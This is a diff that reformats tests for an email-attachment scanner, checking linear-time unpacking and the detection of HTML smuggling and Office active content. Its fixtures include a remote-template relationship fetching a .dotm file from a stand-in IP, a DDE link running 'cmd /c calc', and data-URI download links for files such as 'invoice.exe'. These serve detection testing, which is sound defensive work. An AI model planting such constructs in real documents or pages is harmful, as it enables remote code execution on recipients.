@@ -18,7 +18,7 @@ from mailward.unpack.passwords import password_candidates
 from mailward.unpack.uuencode import unpack as unpack_uuencoded
 from unpack_support import EICAR, message, uuencoded
 
-BOUND = 2.0      # seconds; the old code took 4.7 s to minutes on these inputs
+BOUND = 2.0  # seconds; the old code took 4.7 s to minutes on these inputs
 
 
 def timed(function, *args):
@@ -43,7 +43,7 @@ def test_uuencode_without_end_lines_is_linear(count):
     result, seconds = timed(unpack_uuencoded, data, "body", Allowance(bytes=256 << 20, members=1000))
     assert seconds < BOUND
     assert len(result.members) == count
-    assert [m.data for m in result.members] == [b""] * count           # filler is not uuencoded data
+    assert [m.data for m in result.members] == [b""] * count  # filler is not uuencoded data
     assert [i.stop for i in result.incomplete] == [Stop.CORRUPT]
     assert f"{count} uuencoded" in result.incomplete[0].detail
 
@@ -69,13 +69,16 @@ def test_data_uri_without_download_is_linear():
     assert not found and seconds < BOUND
 
 
-@pytest.mark.parametrize("page, expected", [
-    (b'<p><a id=x href="data:application/octet-stream;base64,%s" download="invoice.exe">x</a>', True),
-    (b"<A HREF='data:text/html;charset=utf-8;base64,%s' DOWNLOAD>", True),
-    (b'<a href="data:application/zip;base64,%s">no download attribute</a>', False),
-    (b'<a href="data:image/png;base64,%s" download>', False),
-    (b'<a href="data:application/zip;base64,%s"><p download>', False),       # download of another tag
-])
+@pytest.mark.parametrize(
+    "page, expected",
+    [
+        (b'<p><a id=x href="data:application/octet-stream;base64,%s" download="invoice.exe">x</a>', True),
+        (b"<A HREF='data:text/html;charset=utf-8;base64,%s' DOWNLOAD>", True),
+        (b'<a href="data:application/zip;base64,%s">no download attribute</a>', False),
+        (b'<a href="data:image/png;base64,%s" download>', False),
+        (b'<a href="data:application/zip;base64,%s"><p download>', False),  # download of another tag
+    ],
+)
 def test_data_uri_download_links(page, expected):
     payload = base64.b64encode(bytes(range(256)) * 12)
     assert is_html_smuggling(page.replace(b"%s", payload)) is expected
@@ -91,12 +94,15 @@ def test_password_keyword_before_a_long_blank_run_is_linear():
     assert seconds < BOUND and found == ("s3cret7",)
 
 
-@pytest.mark.parametrize("part_name, part", [
-    ("word/_rels/document.xml.rels", b"<Relationship " * 100_000),
-    ("word/_rels/document.xml.rels", b"<Relationship " + b'Type="x/oleObject" ' * 100_000),
-    ("word/document.xml", b"<w:instrText " * 100_000),
-    ("xl/externalLinks/externalLink1.xml", b"<ddeLink " + b'ddeService="a" ' * 100_000),
-])
+@pytest.mark.parametrize(
+    "part_name, part",
+    [
+        ("word/_rels/document.xml.rels", b"<Relationship " * 100_000),
+        ("word/_rels/document.xml.rels", b"<Relationship " + b'Type="x/oleObject" ' * 100_000),
+        ("word/document.xml", b"<w:instrText " * 100_000),
+        ("xl/externalLinks/externalLink1.xml", b"<ddeLink " + b'ddeService="a" ' * 100_000),
+    ],
+)
 def test_unterminated_office_tags_are_linear(part_name, part):
     members = [Member("[Content_Types].xml", b""), Member(part_name, part)]
     found, seconds = timed(ooxml.observe, members)
@@ -104,11 +110,15 @@ def test_unterminated_office_tags_are_linear(part_name, part):
 
 
 def test_office_active_content_is_still_seen():
-    members = [Member("[Content_Types].xml", b""),
-               Member("word/_rels/settings.xml.rels",
-                      b'<Relationships><Relationship Id="r1" Target="http://198.51.100.7/t.dotm" TargetMode="External" '
-                      b'Type="http://schemas/relationships/attachedTemplate"/></Relationships>'),
-               Member("xl/externalLinks/externalLink1.xml", b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')]
+    members = [
+        Member("[Content_Types].xml", b""),
+        Member(
+            "word/_rels/settings.xml.rels",
+            b'<Relationships><Relationship Id="r1" Target="http://198.51.100.7/t.dotm" TargetMode="External" '
+            b'Type="http://schemas/relationships/attachedTemplate"/></Relationships>',
+        ),
+        Member("xl/externalLinks/externalLink1.xml", b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
+    ]
     details = [o.detail for o in ooxml.observe(members)]
     assert details == ["attachedTemplate -> http://198.51.100.7/t.dotm", "cmd|/c calc"]
 
@@ -123,7 +133,7 @@ def test_in_process_handler_stops_at_its_cpu_budget(unpacker):  # noqa: F811  (s
     from mailward.unpack import Kind
     from unpack_support import zipped
 
-    members = {f"m{i}.txt": bytes(range(256)) * 4096 for i in range(40)}        # 40 MiB of output
+    members = {f"m{i}.txt": bytes(range(256)) * 4096 for i in range(40)}  # 40 MiB of output
     allowance = Allowance(bytes=256 << 20, members=1000, max_ratio=10_000, seconds=0.0)
     result, seconds = timed(unpacker.unpack, Kind.ZIP, zipped(members), "big.zip", allowance)
     assert [i.stop for i in result.incomplete] == [Stop.TIMEOUT]
